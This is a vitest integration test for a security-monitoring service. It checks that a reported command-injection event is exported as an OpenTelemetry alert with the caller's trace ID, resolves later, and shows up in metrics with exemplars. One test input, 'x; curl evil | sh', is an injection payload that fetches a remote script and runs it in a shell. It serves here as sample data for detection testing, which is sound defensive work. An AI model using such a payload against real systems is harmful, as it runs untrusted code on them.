import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type OtlpReceiver, startOtlpReceiver } from '../support/otlp-receiver.js';
import { waitFor } from '../support/processes.js';
import { INGEST_TOKEN, type RunningSecmon, startSecmon } from '../support/secmon.js';

const TRACE_ID = '4bf92f3577b34da6a3ce929d0e0e4736';
const PARENT_SPAN_ID = '00f067aa0ba902b7';

describe('secmon serve with OTLP export', () => {
  let receiver: OtlpReceiver;
  let service: RunningSecmon;
  let base: string;

  beforeAll(async () => {
    receiver = await startOtlpReceiver();
    service = await startSecmon(
      {
        OTEL_EXPORTER_OTLP_ENDPOINT: receiver.url,
        OTEL_METRIC_EXPORT_INTERVAL: '500',
        OTEL_SERVICE_NAME: 'secmon-it',
        // One-shot attacks end a second after their last event, so the test sees their end.
        SECMON_QUIET_PERIOD_MS: '1000',
      },
      'secmon serve (otlp)',
    );
    base = service.base;
  });

  /** One scrape of /metrics in the OpenMetrics format (the one that carries exemplars). */
  const scrapeOpenMetrics = async () =>
    (
      await fetch(`${base}/metrics`, { headers: { accept: 'application/openmetrics-text; version=1.0.0' } })
    ).text();

  afterAll(async () => {
    await service?.stop();
    await receiver?.close();
  });

  it("exports each alert as a secmon.alert event carrying the caller's trace from traceparent", async () => {
    const response = await fetch(`${base}/v1/events`, {
      method: 'POST',
      headers: {
        authorization: `Bearer ${INGEST_TOKEN}`,
        'content-type': 'application/json',
        traceparent: `00-${TRACE_ID}-${PARENT_SPAN_ID}-01`,
      },
      body: JSON.stringify({ type: 'command_injection', ip: '198.51.100.7', input: 'x; curl evil | sh' }),
    });
    expect(response.status).toBe(202);
    const record = await waitFor('the alert event at the receiver', () =>
      receiver.logs().find((log) => log.eventName === 'secmon.alert'),
    );
    expect(record.severityText).toBe('FATAL');
    expect(record.body).toBe('Command injection attempt detected');
    expect(record.attributes['client.address']).toBe('198.51.100.7');
    expect(record.attributes['secmon.alert.type']).toBe('command_injection');
    expect(record.attributes['secmon.alert.input']).toBe('x; curl evil | sh');
    expect(record.traceId).toBe(TRACE_ID);
    expect(record.spanId).toBe(PARENT_SPAN_ID);
    const resource = receiver.requests.find((request) => request.path === '/v1/logs')!.resource;
    expect(resource['service.name']).toBe('secmon-it');
  });

  it('follows the alert to its end: a resolved event and log line with the same id; the exemplar stays the firing one', async () => {
    const firing = await waitFor('the firing alert event', () =>
      receiver
        .logs()
        .find(
          (log) =>
            log.eventName === 'secmon.alert' &&
            log.attributes['secmon.alert.type'] === 'command_injection' &&
            log.attributes['secmon.alert.state'] === 'firing',
        ),
    );
    const id = firing.attributes['secmon.alert.id'];
    expect(id).toEqual(expect.any(String));
    const resolved = await waitFor(
      'the resolved alert event',
      () =>
        receiver
          .logs()
          .find(
            (log) =>
              log.attributes['secmon.alert.id'] === id && log.attributes['secmon.alert.state'] === 'resolved',
          ),
      { timeoutMs: 20_000 },
    );
    expect(resolved.eventName).toBe('secmon.alert');
    expect(resolved.attributes['secmon.alert.type']).toBe('command_injection');
    expect(resolved.attributes['client.address']).toBe('198.51.100.7');
    expect(resolved.attributes['secmon.alert.duration_ms']).toBeGreaterThanOrEqual(1000);
    expect(resolved.body).toBe('command_injection (198.51.100.7) ended after 1s');
    const lines = service.logLines().filter((line) => (line.alert as { id?: string } | undefined)?.id === id);
    expect(lines.map((line) => [line.level, line.msg, (line.alert as { state: string }).state])).toEqual([
      ['error', 'security alert', 'firing'],
      ['info', 'security alert resolved', 'resolved'],
    ]);
    const metrics = await service.metrics();
    expect(metrics.get('secmon_active_alerts{type="command_injection"}')).toBe(0);
    expect(metrics.get('secmon_alerts_resolved_total{type="command_injection"}')).toBe(1);
    expect(metrics.get('secmon_alerts_total{type="command_injection",severity="critical"}')).toBe(1);
    // The end of an attack is no new alert: the exemplar still links the trace that raised it.
    const openMetrics = await scrapeOpenMetrics();
    expect(openMetrics).toMatch(
      new RegExp(
        `secmon_alerts_total\\{type="command_injection",severity="critical"\\} 1 # \\{trace_id="${TRACE_ID}"`,
      ),
    );
  });

  it('exports the counters as OTel metrics and the OpenMetrics exemplar links the same trace', async () => {
    const metric = await waitFor('the alerts metric at the receiver', () =>
      receiver
        .latestMetrics()
        ?.find(
          (m) =>
            m.name === 'secmon.alerts' &&
            m.points.some((p) => p.attributes.type === 'command_injection' && p.value === 1),
        ),
    );
    expect(metric.monotonic).toBe(true);
    const openMetrics = await scrapeOpenMetrics();
    expect(openMetrics).toMatch(
      new RegExp(
        `secmon_alerts_total\\{type="command_injection",severity="critical"\\} 1 # \\{trace_id="${TRACE_ID}"`,
      ),
    );
  });
});
